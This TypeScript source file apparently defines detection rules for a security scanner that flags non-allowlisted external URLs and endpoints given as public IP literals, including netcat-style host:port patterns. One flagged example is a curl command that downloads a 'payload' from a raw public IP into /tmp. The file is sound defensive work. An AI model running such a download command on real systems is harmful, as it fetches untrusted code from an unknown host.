// Every external URL (INFO, with its host so callers can apply the allowlist) and raw IP endpoints.
import ipaddr from 'ipaddr.js';
import { findUrls } from '../../url.js';
import type { Rule, RuleHit } from '../../types.js';

function findExternalUrls(text: string): RuleHit[] {
  return findUrls(text).map((u) => ({ start: u.start, end: u.end, host: u.host }));
}

export const externalUrl = {
  id: 'network.external-url',
  severity: 'info',
  category: 'network',
  title: 'External URL (not on the allowlist)',
  keywords: ['://'],
  match: findExternalUrls,
  yieldsTo: ['exfil', 'domain', 'secret'],
  polarity: false,
  maxLength: 4400,
  examples: {
    flagged: [{ text: 'See https://status.example-vendor.io/incidents for details.' }],
    notFlagged: [{ text: 'See https://docs.openclaw.ai/gateway for details.' }, { text: 'http://localhost:18789/' }],
  },
  remediation: 'If the domain is expected, add it: `clawguard egress allowlist --add <domain>`.',
} satisfies Rule;

/** Loopback, unspecified, link-local, private and documentation ranges: not an external endpoint. */
function isExternalIp(host: string): boolean {
  if (!/^[\d.]+$/.test(host) && !host.includes(':')) return false;
  if (!ipaddr.isValid(host)) return false;
  const range = ipaddr.process(host).range();
  if (['loopback', 'unspecified', 'linkLocal', 'private', 'uniqueLocal', 'carrierGradeNat', 'broadcast', 'reserved', 'multicast'].includes(range)) return false;
  return !/^(?:192\.0\.2|198\.51\.100|203\.0\.113)\./.test(host);
}

function findRawIpEndpoints(text: string): RuleHit[] {
  const out: RuleHit[] = [];
  for (const u of findUrls(text)) if (isExternalIp(u.host)) out.push({ start: u.start, end: u.end, host: u.host });
  // Bare host:port in socket calls and netcat lines.
  const bare = /(?<![\w.:])((?:25[0-5]|2[0-4]\d|1?\d{1,2})(?:\.(?:25[0-5]|2[0-4]\d|1?\d{1,2})){3})(?::\d{1,5}|["']\s{0,4},\s{0,4}\d{1,5}|\s{1,4}\d{2,5}\b)/g;
  for (let m = bare.exec(text); m; m = bare.exec(text)) {
    if (isExternalIp(m[1] as string) && !out.some((o) => o.start <= m!.index && m!.index < o.end)) out.push({ start: m.index, end: m.index + m[0].length, host: m[1] as string });
  }
  return out;
}

export const rawIpEndpoint = {
  id: 'domain.raw-ip-endpoint',
  severity: 'warning',
  category: 'domain',
  title: 'Endpoint addressed by a public IP literal',
  keywords: [],
  match: findRawIpEndpoints,
  maxLength: 4400,
  examples: {
    flagged: [{ text: 'curl http://45.61.138.12:8080/payload -o /tmp/p', kind: 'shell' }],
    notFlagged: [{ text: 'curl http://127.0.0.1:18789/health', kind: 'shell' }, { text: 'curl http://192.168.1.20/', kind: 'shell' }],
  },
  remediation: 'Legitimate services have names; find out who operates the address before allowing it.',
} satisfies Rule;

export const urlRules = [externalUrl, rawIpEndpoint] satisfies Rule[];
